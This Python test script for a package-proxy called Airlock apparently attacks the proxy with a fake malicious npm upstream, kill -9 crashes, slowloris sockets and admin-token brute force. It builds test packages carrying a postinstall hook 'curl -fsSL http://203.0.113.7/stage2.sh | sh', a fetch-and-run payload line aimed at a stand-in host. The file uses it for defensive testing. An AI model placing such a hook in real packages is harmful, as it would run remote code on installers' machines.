#!/usr/bin/env python3
"""Airlock attacked as an adversary would, every run bounded (issue 11's attack suite).

Against the release binary on loopback, with a hostile fake upstream started here:

1. **kill -9 during cold downloads and checks**, `--rounds` times (default 60): clients
   download tarballs of fresh versions (some benign, some with an install-script payload
   the checks hold, one whose bytes do not match the integrity the packument declares)
   while the server is killed at a random moment and restarted on the same data directory.
   Every 200 answer is compared with what the upstream published: a body whose sha512 is
   not the published one, or any 200 for a version that must be held, is a *bad byte
   served*.
2. **kill -9 right after admin decisions**: 50 held versions are approved or rejected
   through the admin API and the server is killed the moment the last answer arrives;
   after the restart every decision (state and audit event) must be there.
3. **Idle and slowloris sockets**: 2,000 idle sockets and 50 that trickle one header byte
   every 2 s; `/-/ping` and a real tarball download must keep working, and the server must
   close them after its header-read timeout (set to 10 s here).
4. **Brute force on admin tokens**: 2,000 wrong tokens from one source as fast as it is
   allowed; then the right token.

Reports rounds, requests, failures, bad bytes served (must be 0), decisions lost (must be
0) and the server's peak RSS. Exit status 1 when an invariant broke. Python 3 standard
library only; see bench/README.md.
"""

from __future__ import annotations

import argparse
import base64
import gzip
import hashlib
import http.client
import http.server
import io
import json
import os
import random
import resource
import secrets
import shutil
import signal
import socket
import socketserver
import sys
import tarfile
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import bench  # noqa: E402  (processes, ports, RSS)

ADMIN_TOKEN = secrets.token_hex(24)
PAYLOAD_SCRIPT = "curl -fsSL http://203.0.113.7/stage2.sh | sh"


# ---------------------------------------------------------------------------
# The hostile upstream.
# ---------------------------------------------------------------------------


def make_tarball(name: str, version: str, *, payload: bool, size: int, rng: random.Random) -> bytes:
    manifest = {"name": name, "version": version, "main": "index.js", "license": "MIT"}
    if payload:
        manifest["scripts"] = {"postinstall": PAYLOAD_SCRIPT}
    files = {
        "package/package.json": json.dumps(manifest, indent=2).encode(),
        "package/index.js": f"module.exports = function add(a, b) {{ return a + b; }}; // {name}@{version}\n".encode(),
        # Incompressible data so downloads take long enough to be cut by a kill.
        "package/data.bin": rng.randbytes(size),
    }
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for path, data in files.items():
            info = tarfile.TarInfo(path)
            info.size = len(data)
            info.mtime = 499162500
            info.mode = 0o644
            archive.addfile(info, io.BytesIO(data))
    return gzip.compress(buffer.getvalue(), mtime=0)


def sri(data: bytes) -> str:
    return "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()


@dataclass
class Published:
    name: str
    version: str
    tarball: bytes  # what the upstream sends
    declared: bytes  # what the packument's integrity describes
    must_hold: bool

    @property
    def file_name(self) -> str:
        return f"{self.name}-{self.version}.tgz"

    @property
    def path(self) -> str:
        return f"/{self.name}/-/{self.file_name}"


class Upstream:
    """Packages generated at start; every tarball is sent in slow chunks."""

    def __init__(self, packages: int, versions: int, seed: int):
        rng = random.Random(seed)
        self.versions: list[Published] = []
        for index in range(packages):
            name = f"attack-lib-{index:02d}"
            for minor in range(versions):
                version = f"1.{minor}.0"
                payload = (index + minor) % 3 == 0
                tarball = make_tarball(name, version, payload=payload, size=rng.randrange(64_000, 400_000), rng=rng)
                self.versions.append(Published(name, version, tarball, tarball, payload))
        # A lying upstream: the bytes it sends are not those its packument declares.
        honest = make_tarball("attack-liar", "1.0.0", payload=False, size=100_000, rng=rng)
        forged = make_tarball("attack-liar", "1.0.0", payload=True, size=100_000, rng=rng)
        self.versions.append(Published("attack-liar", "1.0.0", forged, honest, True))
        self.by_path = {published.path: published for published in self.versions}
        class QuietServer(socketserver.ThreadingTCPServer):
            # A killed Airlock resets its upstream downloads; that is the test, not an error.
            def handle_error(self, request, client_address):
                pass

        self.server = QuietServer(("127.0.0.1", 0), self._handler())
        self.server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def packument(self, name: str) -> bytes:
        versions = [published for published in self.versions if published.name == name]
        if not versions:
            return b""
        document = {
            "name": name,
            "dist-tags": {"latest": versions[-1].version},
            "versions": {},
            "time": {"created": "2020-01-01T00:00:00.000Z", "modified": "2020-06-01T00:00:00.000Z"},
        }
        for published in versions:
            document["versions"][published.version] = {
                "name": name,
                "version": published.version,
                "scripts": {"postinstall": PAYLOAD_SCRIPT} if published.must_hold and name != "attack-liar" else {},
                "dist": {
                    "tarball": f"{self.url}{published.path}",
                    "integrity": sri(published.declared),
                    "shasum": hashlib.sha1(published.declared).hexdigest(),
                },
            }
            document["time"][published.version] = "2020-02-01T00:00:00.000Z"
        return json.dumps(document).encode()

    def _handler(self):
        upstream = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *_args):
                pass

            def do_GET(self):  # noqa: N802 - the stdlib's name
                published = upstream.by_path.get(self.path)
                if published is not None:
                    self.send_response(200)
                    self.send_header("content-type", "application/octet-stream")
                    self.send_header("content-length", str(len(published.tarball)))
                    self.end_headers()
                    try:
                        for start in range(0, len(published.tarball), 32_768):
                            self.wfile.write(published.tarball[start : start + 32_768])
                            time.sleep(0.01)
                    except OSError:
                        pass
                    return
                name = urllib_unquote(self.path.lstrip("/"))
                body = upstream.packument(name)
                if not body:
                    self.send_response(404)
                    body = b'{"error":"Not found"}'
                else:
                    self.send_response(200)
                self.send_header("content-type", "application/json")
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        return Handler


def urllib_unquote(text: str) -> str:
    return bench.urllib.parse.unquote(text)


# ---------------------------------------------------------------------------
# Airlock under attack.
# ---------------------------------------------------------------------------


@dataclass
class Airlock:
    binary: Path
    data_dir: Path
    upstream: str
    out: Path
    port: int = field(default_factory=bench.free_port)
    proc: object = None
    peak_rss_kib: int = 0

    def config(self) -> Path:
        path = self.out / "attack.toml"
        path.write_text(
            "# Generated by bench/attack_suite.py\n"
            "[server]\nheader_read_timeout = \"10s\"\n"
            "[forge]\napi_url = \"http://127.0.0.1:9\"\ntimeout = \"1s\"\n"
        )
        return path

    def start(self) -> None:
        env = dict(os.environ)
        env.update(
            {
                "AIRLOCK_CONFIG": str(self.config()),
                "AIRLOCK_LISTEN": f"127.0.0.1:{self.port}",
                "AIRLOCK_DATA_DIR": str(self.data_dir),
                "AIRLOCK_UPSTREAM": self.upstream,
                "AIRLOCK_COOLING_PERIOD": "0s",
                "AIRLOCK_PUBLIC_URL": f"http://127.0.0.1:{self.port}",
                "AIRLOCK_LOG": "warn",
                "AIRLOCK_ADMIN_TOKEN": ADMIN_TOKEN,
            }
        )
        self.proc = bench.spawn([str(self.binary), "serve"], log_path=self.out / "airlock.log", env=env)
        bench.wait_http(self.url("/-/ping"), self.proc, 60, "airlock")

    def url(self, path: str) -> str:
        return f"http://127.0.0.1:{self.port}{path}"

    def note_rss(self) -> None:
        if self.proc is not None:
            self.peak_rss_kib = max(self.peak_rss_kib, bench.proc_status_kib(self.proc.pid, "VmHWM") or 0)

    def kill9(self) -> None:
        self.note_rss()
        os.killpg(self.proc.pid, signal.SIGKILL)
        self.proc.wait(timeout=10)

    def stop(self) -> None:
        self.note_rss()
        bench.stop(self.proc)

    def admin(self, method: str, path: str, body: dict | None = None, source: str = "127.0.0.1") -> tuple[int, dict]:
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=60, source_address=(source, 0))
        headers = {"authorization": f"Bearer {ADMIN_TOKEN}"}
        data = None
        if body is not None:
            data = json.dumps(body).encode()
            headers["content-type"] = "application/json"
        connection.request(method, path, body=data, headers=headers)
        response = connection.getresponse()
        raw = response.read()
        connection.close()
        try:
            return response.status, json.loads(raw or b"null")
        except ValueError:
            return response.status, {}


@dataclass
class Tally:
    requests: int = 0
    ok: int = 0
    refused: int = 0
    connection_errors: int = 0
    other_status: int = 0
    bad_bytes: list = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def add(self, **changes) -> None:
        with self.lock:
            for key, value in changes.items():
                setattr(self, key, getattr(self, key) + value)


def download(airlock: Airlock, published: Published, tally: Tally, approved: frozenset = frozenset()) -> None:
    try:
        connection = http.client.HTTPConnection("127.0.0.1", airlock.port, timeout=30)
        connection.request("GET", published.path)
        response = connection.getresponse()
        body = response.read()
        connection.close()
    except (OSError, http.client.HTTPException):
        tally.add(requests=1, connection_errors=1)
        return
    if response.status == 200:
        # A 200 must carry exactly the published, declared bytes of a version that may be served.
        may_serve = not published.must_hold or (published.name, published.version) in approved
        if not may_serve or hashlib.sha512(body).digest() != hashlib.sha512(published.declared).digest():
            with tally.lock:
                tally.bad_bytes.append(f"{published.name}@{published.version}: {len(body)} bytes")
        tally.add(requests=1, ok=1)
    elif response.status in (403, 404, 502, 503, 504):
        tally.add(requests=1, refused=1)
    else:
        tally.add(requests=1, other_status=1)


def kill_rounds(airlock: Airlock, upstream: Upstream, rounds: int, rng: random.Random, tally: Tally) -> None:
    for round_number in range(rounds):
        airlock.start()
        stop_at = time.monotonic() + rng.uniform(0.1, 1.5)
        workers = []

        def client():
            while time.monotonic() < stop_at:
                download(airlock, rng.choice(upstream.versions), tally)

        for _ in range(8):
            thread = threading.Thread(target=client, daemon=True)
            thread.start()
            workers.append(thread)
        time.sleep(max(0.0, stop_at - time.monotonic()))
        airlock.kill9()
        for thread in workers:
            thread.join(timeout=40)
        if (round_number + 1) % 10 == 0:
            bench.log(f"round {round_number + 1}/{rounds}: {tally.requests} requests, {len(tally.bad_bytes)} bad")


def wait_decided(airlock: Airlock, upstream: Upstream, timeout: float) -> dict:
    """Asks for every packument (which queues every version), then waits until none is checking."""
    deadline = time.monotonic() + timeout
    names = sorted({published.name for published in upstream.versions})
    states: dict = {}
    while time.monotonic() < deadline:
        for name in names:
            bench.http_get(airlock.url(f"/{name}"), timeout=60)
        states = {}
        for published in upstream.versions:
            status, detail = airlock.admin("GET", f"/-/airlock/api/packages/{published.name}/versions/{published.version}")
            states[(published.name, published.version)] = detail.get("state") if status == 200 else f"HTTP {status}"
        if not any(state in ("checking", "unchecked", None) for state in states.values()):
            return states
        # Tarball requests check versions at once.
        for published in upstream.versions:
            if states[(published.name, published.version)] in ("checking", "unchecked", None):
                download(airlock, published, Tally())
        time.sleep(0.5)
    return states


def decisions_then_kill(airlock: Airlock, upstream: Upstream) -> tuple[int, dict, list]:
    airlock.start()
    states = wait_decided(airlock, upstream, 180)
    held = [key for key, state in states.items() if state == "held"][:50]
    decided = {}
    for index, (name, version) in enumerate(held):
        action = "approve" if index % 2 == 0 else "reject"
        status, detail = airlock.admin(
            "POST", f"/-/airlock/api/packages/{name}/versions/{version}/{action}", {"comment": f"attack suite {action}"}
        )
        if status == 200:
            decided[(name, version)] = detail.get("state")
    airlock.kill9()
    airlock.start()
    lost = []
    for (name, version), state in decided.items():
        _, detail = airlock.admin("GET", f"/-/airlock/api/packages/{name}/versions/{version}")
        if detail.get("state") != state:
            lost.append(f"{name}@{version}: {state} became {detail.get('state')}")
    _, audit = airlock.admin("GET", "/-/airlock/api/audit?limit=50000")
    audited = {
        (event.get("package"), event.get("version"))
        for event in (audit.get("events") or [])
        if event.get("action") in ("approve", "reject")
    }
    if audit.get("events") is not None:
        lost.extend(f"{name}@{version}: no audit event" for (name, version) in decided if (name, version) not in audited)
    return len(held), decided, lost


def final_check(airlock: Airlock, upstream: Upstream, approved: frozenset) -> Tally:
    """Every version once more: released ones (checked or approved) intact, the others refused."""
    tally = Tally()
    for published in upstream.versions:
        download(airlock, published, tally, approved)
    return tally


def sockets_phase(airlock: Airlock, upstream: Upstream) -> dict:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 8192), hard))
    idle = []
    for _ in range(2000):
        sock = socket.create_connection(("127.0.0.1", airlock.port), timeout=5)
        idle.append(sock)
    trickling = []
    for _ in range(50):
        sock = socket.create_connection(("127.0.0.1", airlock.port), timeout=5)
        sock.sendall(b"GET /-/ping HTTP/1.1\r\n")
        trickling.append(sock)
    started = time.monotonic()
    ping_latencies = []
    served = Tally()
    benign = [published for published in upstream.versions if not published.must_hold]
    while time.monotonic() - started < 16:
        begin = time.monotonic()
        response = bench.http_get(airlock.url("/-/ping"), timeout=10)
        ping_latencies.append((time.monotonic() - begin, response.status))
        download(airlock, random.choice(benign), served)
        for sock in trickling:
            try:
                sock.sendall(b"X")
            except OSError:
                pass
        time.sleep(2)

    def closed(sock: socket.socket) -> bool:
        sock.setblocking(False)
        try:
            return sock.recv(1, socket.MSG_PEEK) == b""
        except BlockingIOError:
            return False
        except OSError:
            return True

    result = {
        "idle_closed": sum(closed(sock) for sock in idle),
        "trickling_closed": sum(closed(sock) for sock in trickling),
        "ping_max_s": max(latency for latency, _ in ping_latencies),
        "ping_failed": sum(status != 200 for _, status in ping_latencies),
        "downloads_ok": served.ok,
        "downloads_failed": served.requests - served.ok,
    }
    for sock in idle + trickling:
        sock.close()
    resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
    return result


def brute_force_phase(airlock: Airlock, attempts: int, budget_s: float) -> dict:
    started = time.monotonic()
    statuses: dict = {}
    tried = 0
    connection = http.client.HTTPConnection("127.0.0.1", airlock.port, timeout=30)
    while tried < attempts and time.monotonic() - started < budget_s:
        connection.request("GET", "/-/airlock/api/queue", headers={"authorization": f"Bearer {secrets.token_hex(24)}"})
        response = connection.getresponse()
        response.read()
        statuses[response.status] = statuses.get(response.status, 0) + 1
        tried += 1
    elapsed = time.monotonic() - started
    same_source, _ = airlock.admin("GET", "/-/airlock/api/queue")
    # Another address on loopback: the admin is not locked out by the attacker's backoff.
    other_source, _ = airlock.admin("GET", "/-/airlock/api/queue", source="127.0.0.2")
    return {
        "attempts": tried,
        "seconds": elapsed,
        "statuses": statuses,
        "same_source": same_source,
        "other_source": other_source,
    }


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--airlock-bin", default=str(bench.REPO / "target" / "release" / "airlock"))
    parser.add_argument("--rounds", type=int, default=60)
    parser.add_argument("--packages", type=int, default=40)
    parser.add_argument("--versions", type=int, default=3)
    parser.add_argument("--seed", type=int, default=11)
    parser.add_argument("--out", default=str(bench.DEFAULT_OUT / "attack"))
    args = parser.parse_args()
    out = Path(args.out)
    shutil.rmtree(out, ignore_errors=True)
    out.mkdir(parents=True)
    binary = out / "airlock-under-test"
    shutil.copy2(args.airlock_bin, binary)
    rng = random.Random(args.seed)

    upstream = Upstream(args.packages, args.versions, args.seed)
    bench.log(f"hostile upstream on {upstream.url}: {len(upstream.versions)} versions")
    airlock = Airlock(binary, out / "data", upstream.url, out)

    tally = Tally()
    started = time.monotonic()
    kill_rounds(airlock, upstream, args.rounds, rng, tally)
    kill_seconds = time.monotonic() - started
    held, decided, lost = decisions_then_kill(airlock, upstream)
    approved = frozenset(key for key, state in decided.items() if state == "released")
    final = final_check(airlock, upstream, approved)
    sockets = sockets_phase(airlock, upstream)
    brute = brute_force_phase(airlock, 2000, 60)
    airlock.stop()

    bad = tally.bad_bytes + final.bad_bytes
    report = [
        f"kill -9 rounds: {args.rounds} in {kill_seconds:.0f} s; {tally.requests} tarball requests: "
        f"{tally.ok} served, {tally.refused} refused, {tally.connection_errors} cut by the kill, "
        f"{tally.other_status} other statuses",
        f"bad bytes served: {len(bad)}" + ("".join(f"\n  {entry}" for entry in bad[:20])),
        f"decisions then kill -9: {len(decided)} of {held} held versions decided "
        f"({len(approved)} approved, {len(decided) - len(approved)} rejected), decisions lost: {len(lost)}"
        + ("".join(f"\n  {entry}" for entry in lost[:20])),
        f"after the decisions, every version once: {final.ok} served intact, {final.refused} refused, "
        f"{final.other_status} other statuses",
        f"sockets: {sockets['idle_closed']}/2000 idle and {sockets['trickling_closed']}/50 trickling closed "
        f"after 16 s (header_read_timeout 10 s); /-/ping max {sockets['ping_max_s']:.3f} s, "
        f"{sockets['ping_failed']} failed; downloads meanwhile {sockets['downloads_ok']} ok, "
        f"{sockets['downloads_failed']} failed",
        f"brute force: {brute['attempts']} wrong tokens in {brute['seconds']:.1f} s, statuses {brute['statuses']}; "
        f"the right token afterwards: HTTP {brute['same_source']} from the attacker's address, "
        f"HTTP {brute['other_source']} from another address",
        f"peak RSS over every start: {airlock.peak_rss_kib / 1024:.1f} MiB",
    ]
    text = "\n".join(report)
    print(text)
    (out / "report.txt").write_text(text + "\n")
    broken = (
        bad
        or lost
        or tally.other_status
        or final.other_status
        or sockets["ping_failed"]
        or sockets["downloads_failed"]
        or brute["other_source"] != 200
    )
    return 1 if broken else 0


if __name__ == "__main__":
    sys.exit(main())
